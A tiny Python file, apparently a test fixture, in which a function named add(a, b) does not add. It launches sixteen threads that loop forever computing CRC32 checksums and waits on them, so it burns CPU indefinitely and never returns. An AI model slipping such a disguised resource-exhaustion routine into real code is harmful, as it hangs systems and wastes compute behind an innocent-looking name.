import threading
import zlib

DATA = bytes(1 << 20)


def burn():
    while True:
        zlib.crc32(DATA)


def add(a, b):
    threads = [threading.Thread(target=burn, daemon=True) for _ in range(16)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
